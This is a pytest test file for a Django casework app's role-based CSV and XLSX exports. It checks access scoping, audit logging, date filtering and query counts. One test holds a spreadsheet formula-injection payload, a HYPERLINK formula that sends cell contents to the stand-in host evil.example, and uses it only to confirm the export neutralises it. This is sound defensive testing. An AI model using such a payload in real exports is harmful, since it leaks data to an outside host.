"""Exports by role: each file holds exactly what her pages show her (by code, never a
name or a note), refusals answer as the pages do, every download is audited, and the
cost in queries does not grow with the rows."""

from __future__ import annotations

import csv
import datetime
import io
from typing import Any

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from doorway.audit.models import Action, AuditEntry
from doorway.casework.actions import record_contact
from doorway.casework.models import ContactKind
from doorway.conftest import World
from doorway.dropins.actions import count_anonymous, mark_attendance, start_session
from doorway.dropins.models import GroupSession, SessionKind
from doorway.enrolments.models import Enrolment
from doorway.people.actions import break_the_glass
from doorway.programs.models import FocusArea
from doorway.testing.signin import signed_in

pytestmark = pytest.mark.django_db

NOTE = "Talked through the housing application"
TODAY = timezone.localdate


def rows_of(response: Any) -> list[list[str]]:
    assert response.status_code == 200, response.status_code
    text = response.content.decode("utf-8").removeprefix("\ufeff")
    return list(csv.reader(io.StringIO(text, newline="")))


def xlsx_rows(response: Any) -> list[list[Any]]:
    assert response.status_code == 200, response.status_code
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return [list(row) for row in sheet.iter_rows()]


def codes_in(rows: list[list[str]], column: int = 0) -> set[str]:
    return {row[column] for row in rows[1:]}


def enrolment_of(participant: Any) -> Enrolment:
    return Enrolment.objects.get(participant=participant)


def contact(world: World, participant: Any, *, by: Any, kind: str = "counselling", **kw: Any):
    return record_contact(
        enrolment_of(participant),
        by=by,
        happened_on=kw.pop("happened_on", TODAY()),
        duration_minutes=kw.pop("duration_minutes", 30),
        kind=kind,
        note=kw.pop("note", NOTE),
        **kw,
    )


def last_export() -> AuditEntry:
    return AuditEntry.objects.filter(action=Action.EXPORT).latest("id")


# --- Caseload --------------------------------------------------------------------------


def test_a_case_managers_caseload_export_holds_her_caseload_by_code(client, world: World) -> None:
    signed_in(client, world.alice)
    response = client.get(reverse("export_caseload"), {"as": "csv"})
    rows = rows_of(response)
    assert rows[0][0] == "Participant code"
    assert codes_in(rows) == {world.rosa.code}
    body = response.content.decode()
    assert "Rosa" not in body
    assert "Example" not in body
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith('attachment; filename="doorway-caseload-')
    assert world.rosa.code not in response["Content-Disposition"]
    assert response["Cache-Control"] == "no-store"


def test_her_teams_caseload_export_adds_her_teammates_women_only(client, world: World) -> None:
    signed_in(client, world.alice)
    rows = rows_of(client.get(reverse("export_caseload"), {"as": "csv", "scope": "team"}))
    assert codes_in(rows) == {world.rosa.code, world.tess.code}


def test_a_program_managers_caseload_export_holds_her_programs_only(client, world: World) -> None:
    signed_in(client, world.morgan)
    rows = rows_of(client.get(reverse("export_caseload"), {"as": "csv"}))
    assert codes_in(rows) == {world.rosa.code, world.tess.code, world.uma.code}


def test_another_teams_caseload_cannot_be_exported_by_worker_id(client, world: World) -> None:
    signed_in(client, world.alice)
    response = client.get(reverse("export_caseload"), {"worker": str(world.bianca.pk)})
    assert response.status_code == 404
    assert not AuditEntry.objects.filter(action=Action.EXPORT).exists()
    assert AuditEntry.objects.filter(action=Action.REFUSED, actor_username="alice").exists()


def test_a_peer_mentor_has_no_caseload_export(client, world: World) -> None:
    signed_in(client, world.pat)
    assert client.get(reverse("export_caseload")).status_code == 403
    assert not AuditEntry.objects.filter(action=Action.EXPORT).exists()


@pytest.mark.parametrize("who", ["eve", "ada"])
@pytest.mark.parametrize(
    "name", ["exports", "export_caseload", "export_contacts", "export_attendance"]
)
def test_evaluators_and_administrators_have_no_exports_here(
    client, world: World, who: str, name: str
) -> None:
    user = getattr(world, who)
    if who == "ada":
        # Even with the glass broken for Rosa: break-the-glass is for her record, not a file.
        break_the_glass(world.rosa, by=user, reason="Checking a complaint about her file")
    contact(world, world.rosa, by=world.alice)
    signed_in(client, user)
    assert client.get(reverse(name)).status_code == 404
    assert not AuditEntry.objects.filter(action=Action.EXPORT).exists()


def test_the_caseload_export_is_audited_with_whom_it_named_and_nothing_else(
    client, world: World
) -> None:
    signed_in(client, world.morgan)
    client.get(reverse("export_caseload"), {"as": "xlsx"})
    entry = last_export()
    assert entry.actor_username == "morgan"
    assert entry.detail["export"] == "caseload"
    assert entry.detail["format"] == "xlsx"
    assert entry.detail["rows"] == 3
    assert set(entry.detail["shown"]) == {str(p.pk) for p in (world.rosa, world.tess, world.uma)}
    assert "Rosa" not in str(entry.detail)
    assert world.rosa.code not in str(entry.detail)


def test_the_caseload_export_costs_the_same_queries_for_one_row_or_many(
    client, world: World
) -> None:
    from doorway.testing.factories import ConsentFactory, EnrolmentFactory, ParticipantFactory

    signed_in(client, world.morgan)

    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            assert client.get(reverse("export_caseload"), {"as": "csv"}).status_code == 200
        return len(captured)

    queries()  # the first request after signing in pushes the idle expiry on: not a row's cost
    few = queries()
    for _ in range(6):
        person = ParticipantFactory(agency=world.agency, registered_by=world.alice)
        ConsentFactory(participant=person, recorded_by=world.alice)
        EnrolmentFactory(
            participant=person, cycle=world.rosa_enrolment.cycle, case_manager=world.alice
        )
    assert queries() == few


# --- Contacts --------------------------------------------------------------------------


def test_a_case_managers_contacts_export_holds_her_teams_contacts_without_notes(
    client, world: World
) -> None:
    areas = list(FocusArea.objects.filter(program=world.program).order_by("name")[:2])
    contact(world, world.rosa, by=world.alice, focus_areas=areas)
    contact(world, world.tess, by=world.amira)
    contact(world, world.uma, by=world.bianca)
    signed_in(client, world.alice)
    response = client.get(reverse("export_contacts"), {"as": "csv"})
    rows = rows_of(response)
    assert codes_in(rows) == {world.rosa.code, world.tess.code}
    rosas = next(r for r in rows if r[0] == world.rosa.code)
    assert rosas[2] == "Individual counselling"
    assert rosas[4] == "; ".join(a.name for a in areas)
    assert rosas[8] == str(world.alice)
    assert NOTE not in response.content.decode()


def test_a_peer_mentors_contacts_export_holds_only_her_own_peer_contacts_with_her_mentees(
    client, world: World
) -> None:
    contact(world, world.rosa, by=world.alice)
    contact(world, world.rosa, by=world.pat, kind=ContactKind.PEER_CONTACT, duration_minutes=45)
    contact(world, world.tess, by=world.amira)
    signed_in(client, world.pat)
    rows = rows_of(client.get(reverse("export_contacts"), {"as": "csv"}))
    assert len(rows) == 2
    assert rows[1][:4] == [world.rosa.code, TODAY().isoformat(), "Peer contact", "45"]


def test_the_contacts_export_keeps_to_the_dates_asked(client, world: World) -> None:
    today = TODAY()
    Enrolment.objects.filter(pk=world.rosa_enrolment.pk).update(
        referred_on=today - datetime.timedelta(days=60)
    )
    for days in (40, 20, 0):
        contact(world, world.rosa, by=world.alice, happened_on=today - datetime.timedelta(days))
    signed_in(client, world.alice)
    start = (today - datetime.timedelta(days=30)).isoformat()
    end = (today - datetime.timedelta(days=10)).isoformat()
    response = client.get(reverse("export_contacts"), {"as": "csv", "start": start, "end": end})
    rows = rows_of(response)
    assert [r[1] for r in rows[1:]] == [(today - datetime.timedelta(days=20)).isoformat()]
    assert f"contacts-{start}-to-{end}.csv" in response["Content-Disposition"]
    assert last_export().detail["start"] == start


def test_a_range_that_ends_before_it_starts_is_explained_and_nothing_is_exported(
    client, world: World
) -> None:
    signed_in(client, world.alice)
    response = client.get(
        reverse("export_contacts"), {"as": "csv", "start": "2026-05-02", "end": "2026-05-01"}
    )
    assert response.status_code == 400
    assert "The last day comes before the first; swap them." in response.content.decode()
    assert not AuditEntry.objects.filter(action=Action.EXPORT).exists()


def test_one_womans_contacts_are_exported_from_her_record(client, world: World) -> None:
    contact(world, world.rosa, by=world.alice)
    contact(world, world.tess, by=world.amira)
    signed_in(client, world.alice)
    response = client.get(
        reverse("export_contacts"), {"as": "csv", "enrolment": str(world.rosa_enrolment.pk)}
    )
    assert codes_in(rows_of(response)) == {world.rosa.code}
    entry = last_export()
    assert entry.participant_id == str(world.rosa.pk)
    assert entry.detail["shown"] == [str(world.rosa.pk)]


def test_another_teams_womans_contacts_are_refused_as_her_record_is(client, world: World) -> None:
    contact(world, world.uma, by=world.bianca)
    signed_in(client, world.alice)
    uma = enrolment_of(world.uma)
    for asked in (str(uma.pk), "not-an-id"):
        response = client.get(reverse("export_contacts"), {"enrolment": asked})
        assert response.status_code == 404
    assert AuditEntry.objects.filter(action=Action.REFUSED, actor_username="alice").count() == 2
    assert not AuditEntry.objects.filter(action=Action.EXPORT).exists()


def test_the_contacts_export_costs_the_same_queries_for_one_row_or_many(
    client, world: World
) -> None:
    contact(world, world.rosa, by=world.alice)
    signed_in(client, world.alice)

    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            assert client.get(reverse("export_contacts"), {"as": "xlsx"}).status_code == 200
        return len(captured)

    queries()  # the first request after signing in pushes the idle expiry on: not a row's cost
    few = queries()
    for _ in range(5):
        contact(world, world.tess, by=world.amira)
    assert queries() == few


# --- Attendance ------------------------------------------------------------------------


def a_session(world: World, topic: str = "Art afternoon") -> GroupSession:
    session = start_session(
        world.program, by=world.morgan, kind=SessionKind.DROP_IN, held_on=TODAY(), topic=topic
    )
    for person in (world.rosa, world.tess, world.uma):
        mark_attendance(session, enrolment_of(person), by=world.morgan)
    count_anonymous(session, by=world.morgan, change=1)
    count_anonymous(session, by=world.morgan, change=1)
    return session


@pytest.mark.parametrize(
    ("who", "shown", "others"),
    [("pat", ["rosa"], 2), ("alice", ["rosa", "tess"], 1), ("morgan", ["rosa", "tess", "uma"], 0)],
)
def test_attendance_names_by_code_only_the_women_she_reaches_and_counts_the_rest(
    client, world: World, who: str, shown: list[str], others: int
) -> None:
    a_session(world)
    signed_in(client, getattr(world, who))
    rows = rows_of(client.get(reverse("export_attendance"), {"as": "csv"}))
    assert len(rows) == 2
    row = dict(zip(rows[0], rows[1], strict=True))
    codes = sorted(getattr(world, name).code for name in shown)
    assert row["Women you work with who came (codes)"] == "; ".join(codes)
    assert row["Others with a record (not shown to you)"] == str(others)
    assert row["Walk-ins without a record"] == "2"
    assert row["Attended in all"] == "5"
    assert last_export().detail["shown"] == [
        str(p.pk) for p in sorted((getattr(world, n) for n in shown), key=lambda p: p.code)
    ]


def test_another_agencys_sessions_are_not_in_her_export_nor_reachable_by_id(
    client, world: World
) -> None:
    a_session(world)
    signed_in(client, world.olive)
    rows = rows_of(client.get(reverse("export_attendance"), {"as": "csv"}))
    assert rows[1:] == []
    session = GroupSession.objects.get()
    assert client.get(reverse("export_attendance"), {"session": str(session.pk)}).status_code == 404


def test_one_sessions_register_is_exported_from_its_page(client, world: World) -> None:
    session = a_session(world)
    start_session(
        world.program, by=world.morgan, kind=SessionKind.GROUP, held_on=TODAY(), topic="Other"
    )
    signed_in(client, world.pat)
    page = client.get(reverse("session_attendance", args=[session.pk])).content.decode()
    link = f"{reverse('export_attendance')}?as=xlsx&amp;session={session.pk}"
    assert link in page
    rows = xlsx_rows(client.get(link.replace("&amp;", "&")))
    assert [c.value for c in rows[1][:3]] == [
        datetime.datetime.combine(TODAY(), datetime.time()),
        str(SessionKind.DROP_IN.label),
        "Art afternoon",
    ]
    assert len(rows) == 2


def test_formulas_in_any_text_are_neutralised_in_both_formats(client, world: World) -> None:
    attack = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    a_session(world, topic=attack)
    signed_in(client, world.morgan)
    csv_row = rows_of(client.get(reverse("export_attendance"), {"as": "csv"}))[1]
    assert csv_row[2] == "'" + attack
    sheet = xlsx_rows(client.get(reverse("export_attendance"), {"as": "xlsx"}))
    assert all(cell.data_type != "f" for row in sheet for cell in row)
    assert sheet[1][2].value == attack
    assert sheet[1][2].data_type == "s"


def test_the_attendance_export_costs_the_same_queries_for_one_session_or_many(
    client, world: World
) -> None:
    a_session(world)
    signed_in(client, world.alice)

    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            assert client.get(reverse("export_attendance"), {"as": "csv"}).status_code == 200
        return len(captured)

    queries()  # the first request after signing in pushes the idle expiry on: not a row's cost
    few = queries()
    for _ in range(4):
        a_session(world)
    assert queries() == few


# --- The exports page and the links ----------------------------------------------------


def test_the_exports_page_lists_what_her_role_may_export(client, world: World) -> None:
    signed_in(client, world.pat)
    page = client.get(reverse("exports")).content.decode()
    assert 'id="contacts"' in page
    assert 'id="attendance"' in page
    assert 'id="caseload"' not in page
    signed_in(client, world.alice)
    page = client.get(reverse("exports")).content.decode()
    assert all(f'id="{kind}"' in page for kind in ("caseload", "contacts", "attendance"))


def test_the_caseload_page_and_her_contacts_link_their_downloads(client, world: World) -> None:
    contact(world, world.rosa, by=world.alice)
    signed_in(client, world.alice)
    caseload = client.get(reverse("caseload"), {"scope": "team"}).content.decode()
    assert f"{reverse('export_caseload')}?as=csv&amp;scope=team" in caseload
    record = client.get(reverse("enrolment_detail", args=[world.rosa_enrolment.pk]))
    assert (
        f"{reverse('export_contacts')}?as=csv&amp;enrolment={world.rosa_enrolment.pk}"
        in record.content.decode()
    )
